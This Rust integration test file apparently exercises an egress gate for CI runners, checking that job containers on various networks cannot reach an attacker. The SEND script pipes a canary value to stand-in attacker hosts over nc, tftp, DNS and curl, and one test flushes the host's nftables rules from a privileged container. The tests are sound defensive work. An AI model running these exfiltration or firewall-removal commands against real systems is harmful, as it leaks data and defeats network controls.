//! Containers of real engines are behind the gate: C1, C2 (with a real engine), C5, C6, C7, T9.

mod life;

use anyhow::{Result, ensure};
use life::{
    BLOCK, Done, Gate, Puppet, assert_gapless, assert_nothing_left, detections, dns, network,
};
use portcullis_common::event::{Direction, DnsEvent, Event, NetworkEvent, Verdict};
use portcullis_tests::job::JobContainer;
use portcullis_tests::world::{Docker, DockerOptions, IMAGE};
use portcullis_tests::{Canary, JobOutcome, World};

/// What a container sends to the attacker, in a shell: TCP, UDP, ICMP of both families by address, DNS in all ways.
const SEND: &str = r#"
set +e
for a in 203.0.113.66 2001:db8::66; do
    echo "$S" | nc -w 1 $a 4444
    echo "$S" >/tmp/s; timeout 1 tftp -p -l /tmp/s -r "$S" $a 4445
done
ping -c 1 -W 1 203.0.113.66; ping -6 -c 1 -W 1 2001:db8::66
nslookup $S.evil.test
nslookup $S.evil.test 203.0.113.66
nslookup $S.evil.test 2001:db8::66
curl -sS --max-time 2 http://evil.test/$S
echo sent
"#;

/// What a container may do under [`BLOCK`].
const ALLOWED: &str = "curl -sS --max-time 10 -o /dev/null http://ok.test/ && echo arrived";

/// A job on a host with an engine, and what is needed to look at it.
struct Engine {
    gate: Gate,
    docker: Docker,
}

impl Engine {
    fn up(runners: u32) -> Result<Self> {
        let world = World::builder().engine().runners(runners).build()?;
        let docker = world.docker(&DockerOptions::default())?;
        let gate = Gate::up(world, &[("block", BLOCK)])?;
        Ok(Self { gate, docker })
    }
}

/// A script of a job that runs `script` in a container made with `options`.
fn contained(options: &str, script: &str) -> String {
    format!(
        "cat >\"$PUPPET/inside.sh\" <<'END'\n{script}\nEND\ndocker run --rm -i -e S {options} {IMAGE} sh -s <\"$PUPPET/inside.sh\""
    )
}

fn assert_said(done: &Done, word: &str) -> Result<()> {
    ensure!(done.output.contains(word), "{done:?}");
    Ok(())
}

/// Blocked calls of a container to the attacker, whose container is known by its image.
fn assert_blocked_from_container(events: &[Event], calls: &[(&str, Option<u16>)]) {
    for (address, port) in calls {
        let found = network(events).any(|event| {
            event.verdict == Verdict::Blocked
                && event.direction == Direction::Forwarded
                && event.address.to_string() == *address
                && event.port == *port
                && event.container.as_deref().is_some_and(|container| container.contains(IMAGE))
        });
        assert!(found, "{address} {port:?}: {:#?}", calls_of(events));
    }
}

/// The calls in short, for the message of a failed assertion.
fn calls_of(events: &[Event]) -> Vec<String> {
    let in_short = |event: &NetworkEvent| {
        format!(
            "{:?} {:?} {} {}:{:?} from {:?}",
            event.verdict,
            event.direction,
            event.protocol,
            event.address,
            event.port,
            event.container
        )
    };
    network(events).map(in_short).collect()
}

const CALLS: [(&str, Option<u16>); 6] = [
    ("203.0.113.66", Some(4444)),
    ("203.0.113.66", Some(4445)),
    ("203.0.113.66", None),
    ("2001:db8::66", Some(4444)),
    ("2001:db8::66", Some(4445)),
    ("2001:db8::66", None),
];

/// Without a gate everything arrives, so that the tests below can fail.
#[test]
fn without_a_gate_a_container_reaches_the_attacker() -> Result<()> {
    let world = World::builder().engine().build()?;
    let docker = world.docker(&DockerOptions::default())?;
    let canary = Canary::generate()?;
    let mut puppet = Puppet::start_in(&world, 0, "octo/hello", &canary)?;
    let twin = puppet.run(&contained("", ALLOWED))?;
    ensure!(twin.output.contains("arrived"), "{twin:?}\n{}", docker.log());
    let sent = puppet.run(&contained("", SEND))?;
    assert_said(&sent, "sent")?;
    puppet.finish()?;
    assert!(world.attacker().saw(&canary)?, "{sent:?}\n{}", docker.log());
    Ok(())
}

/// C1: `docker0`, and a bridge that the job makes while it runs, with the engine's own resolver and with one of the
/// container's own choice.
#[test]
fn containers_on_bridges_are_judged() -> Result<()> {
    let Engine { gate, docker } = Engine::up(1)?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let made = puppet.run("docker network create --ipv6 --subnet fd77:1::/64 own")?;
    ensure!(made.succeeded(), "{made:?}\n{}", docker.log());
    for options in [
        "",
        "--network own",
        "--dns 203.0.113.66",
        "--network own --dns 203.0.113.66 --dns 2001:db8::66",
    ] {
        let sent = puppet.run(&contained(options, SEND))?;
        assert_said(&sent, "sent")?;
        let twin = puppet.run(&contained(options, ALLOWED))?;
        ensure!(twin.output.contains("arrived"), "{options}: {twin:?}\n{}", gate.monitor.log());
    }
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    assert_blocked_from_container(&events, &CALLS);
    let name = gate.canary.as_str().to_lowercase();
    assert!(
        dns(&events).any(|query| query.verdict == Verdict::Blocked
            && query.name.to_lowercase().starts_with(&name)),
        "{events:#?}"
    );
    let is_named = |query: &DnsEvent, verdict| {
        query.verdict == verdict
            && query.container.as_deref().is_some_and(|container| container.contains(IMAGE))
    };
    for verdict in [Verdict::Blocked, Verdict::Allowed] {
        let queries: Vec<_> = dns(&events).collect();
        assert!(queries.iter().any(|query| is_named(query, verdict)), "{verdict:?}: {queries:#?}");
    }
    assert_nothing_left(&gate.world)
}

/// C7: steps in a job container and the services beside it, as the runner makes them: the service is reached by its name,
/// what the policy allows is reached, the attacker is not. The runner mounts the engine's socket into a job container, and
/// that is no privileged container, though the policy kills for one.
#[test]
fn job_containers_and_services_are_judged() -> Result<()> {
    let policy = BLOCK.replace(
        "attach:",
        "lockdown-mode: {enabled: true, detections: [Privileged-Container]}\nattach:",
    );
    let world = World::builder().engine().build()?;
    let docker = world.docker(&DockerOptions::default())?;
    let gate = Gate::up(world, &[("block", &policy)])?;
    let mut job = gate
        .job(ALLOWED)
        .step(SEND)
        .step("sleep 1; test \"$(nc -w 5 store 6379 </dev/null)\" = stored && echo served");
    job.container = Some(JobContainer { image: IMAGE.to_owned(), ..JobContainer::default() });
    let store = JobContainer {
        image: IMAGE.to_owned(),
        command: ["nc", "-ll", "-p", "6379", "-e", "/bin/echo", "stored"]
            .map(str::to_owned)
            .to_vec(),
        ..JobContainer::default()
    };
    job.services.insert("store".to_owned(), store);
    let result = gate.run(&job)?;
    ensure!(result.outcome == JobOutcome::Success, "{}\n{}", result.log(), docker.log());
    for word in ["arrived", "sent", "served"] {
        ensure!(result.log().contains(word), "{word}: {}", result.log());
    }
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    assert_gapless(&events);
    // The runner's networks have no IPv6.
    assert_blocked_from_container(&events, &CALLS[..3]);
    ensure!(detections(&events).next().is_none(), "{:?}", detections(&events).collect::<Vec<_>>());
    assert_nothing_left(&gate.world)
}

/// C1 for podman, whose bridge and resolver are others. It runs as root, as only root reaches its networks.
#[test]
fn podmans_containers_are_judged() -> Result<()> {
    let world = World::builder().engine().build()?;
    world.podman()?;
    let gate = Gate::up(world, &[("block", BLOCK)])?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let parent = format!("/{}/podman", gate.world.id());
    let inside = |script: &str| {
        format!(
            "cat >\"$PUPPET/inside.sh\" <<'END'\n{script}\nEND\nsudo env S=\"$S\" podman run --rm -i --cgroup-parent {parent} -e S localhost/{IMAGE} sh -s <\"$PUPPET/inside.sh\""
        )
    };
    let twin = puppet.run(&inside(ALLOWED))?;
    assert_said(&twin, "arrived")?;
    let sent = puppet.run(&inside(SEND))?;
    assert_said(&sent, "sent")?;
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    for (address, port) in CALLS.iter().filter(|(address, _)| !address.contains(':')) {
        let found = network(&events).any(|event| {
            event.verdict == Verdict::Blocked
                && event.direction == Direction::Forwarded
                && event.address.to_string() == *address
                && event.port == *port
                && event.container.is_some()
        });
        assert!(found, "{address} {port:?}: {:#?}", calls_of(&events));
    }
    assert_nothing_left(&gate.world)
}

/// With several runners whose a container is can't be told: it reaches what every running job allows, by name too, and nothing
/// else.
#[test]
fn beside_another_runners_job_containers_reach_what_both_allow() -> Result<()> {
    let policy = |name: &str, hosts: &str| {
        format!(
            "name: {name}\negress-policy: block\nallowed-endpoints: [{hosts}]\nattach: [{{repository: octo/{name}}}]\n"
        )
    };
    let one = policy("one", "'ok.test:80', 'other.test:80'");
    let two = policy("two", "'ok.test:80'");
    let world = World::builder().engine().runners(2).build()?;
    let docker = world.docker(&DockerOptions::default())?;
    let gate = Gate::up(world, &[("one", &one), ("two", &two)])?;
    for runner in gate.world.runners() {
        runner.start()?;
    }
    let call = |host: &str| {
        contained(
            "",
            &format!("curl -sS --max-time 10 -o /dev/null http://{host}/ && echo arrived"),
        )
    };
    let mut first = Puppet::start(&gate, 0, "octo/one")?;
    let alone = first.run(&call("other.test"))?;
    ensure!(alone.output.contains("arrived"), "{alone:?}\n{}", docker.log());
    // The second job has asked for nothing itself.
    let second = Puppet::start(&gate, 1, "octo/two")?;
    let twin = first.run(&call("ok.test"))?;
    ensure!(twin.output.contains("arrived"), "{twin:?}\n{}", gate.monitor.log());
    let refused = first.run(&call("other.test"))?;
    ensure!(!refused.output.contains("arrived"), "{refused:?}");
    let sent = first.run(&contained("", SEND))?;
    assert_said(&sent, "sent")?;
    let result = second.finish()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    let again = first.run(&call("other.test"))?;
    ensure!(again.output.contains("arrived"), "{again:?}\n{}", gate.monitor.log());
    let result = first.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    // Either job's resolver may have heard the query; its record has it, with the container.
    let mut queries = Vec::new();
    for id in gate.world.job_ids()? {
        queries.extend(dns(&gate.world.events(&id)?).cloned());
    }
    let is_refused = |query: &DnsEvent| {
        query.name == "other.test" && query.verdict == Verdict::Blocked && query.container.is_some()
    };
    ensure!(queries.iter().any(is_refused), "{queries:#?}");
    assert_nothing_left(&gate.world)
}

/// Containers that were there before the job are judged while it runs: what it could make them send is the job's.
/// C6: a container in the host's network that may change the packet filter can't remove the rules.
#[test]
fn older_containers_and_those_in_the_hosts_network_are_judged() -> Result<()> {
    let Engine { gate, docker } = Engine::up(1)?;
    let older = ["run", "-d", "--name", "older", IMAGE, "sleep", "1000"];
    docker.command().args(older).text()?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    let sent = puppet.run(&format!(
        "cat >\"$PUPPET/inside.sh\" <<'END'\n{SEND}\nEND\ndocker exec -i -e S older sh -s <\"$PUPPET/inside.sh\""
    ))?;
    assert_said(&sent, "sent")?;
    // C2 with a real engine.
    let sent = puppet.run(&contained("--network host", SEND))?;
    assert_said(&sent, "sent")?;
    let twin = puppet.run(&contained("--network host", ALLOWED))?;
    assert_said(&twin, "arrived")?;
    // C6: all of the host in a container, the packet filter's tools included.
    let flushed = puppet.run(&format!(
        "docker run --rm -v /:/host --network host --cap-add NET_ADMIN --cap-add SYS_CHROOT {IMAGE} chroot /host /usr/sbin/nft flush ruleset; echo flushed"
    ))?;
    assert_said(&flushed, "flushed")?;
    let sent = puppet.run(&contained("", SEND))?;
    assert_said(&sent, "sent")?;
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    let events = gate.last_events()?;
    assert_blocked_from_container(&events, &CALLS);
    let running = docker.command().args(["ps", "--format", "{{.Names}}"]).text()?;
    assert!(running.contains("older"), "the container of others is gone: {running}");
    Ok(())
}

/// T9: a container on the uplink itself, by macvlan and by ipvlan, with an address of its own.
#[test]
fn containers_on_the_uplink_itself_are_stopped() -> Result<()> {
    let Engine { gate, docker } = Engine::up(1)?;
    let mut puppet = Puppet::start(&gate, 0, "octo/hello")?;
    for (driver, subnet) in [("macvlan", 6), ("ipvlan", 7)] {
        let made = puppet.run(&format!(
            "docker network create -d {driver} --subnet 192.0.2.0/24 --gateway 192.0.2.1 --ip-range 192.0.2.{subnet}0/29 -o parent=eth0 on-uplink"
        ))?;
        ensure!(made.succeeded(), "{driver}: {made:?}\n{}", docker.log());
        let sent = puppet.run(&contained("--network on-uplink", SEND))?;
        // A kernel without the driver has nothing to be stopped; this machine may have no ipvlan.
        if !sent.output.contains("not supported") {
            assert_said(&sent, "sent")?;
        }
        gate.world
            .attacker()
            .assert_untouched(&gate.canary)
            .map_err(|error| error.context(format!("{driver}: {sent:?}")))?;
        puppet.run("docker network rm on-uplink")?;
        let twin = puppet.run(&contained("", ALLOWED))?;
        assert_said(&twin, "arrived")?;
    }
    let result = puppet.finish()?;
    gate.monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    gate.assert_contained(&result)?;
    Ok(())
}
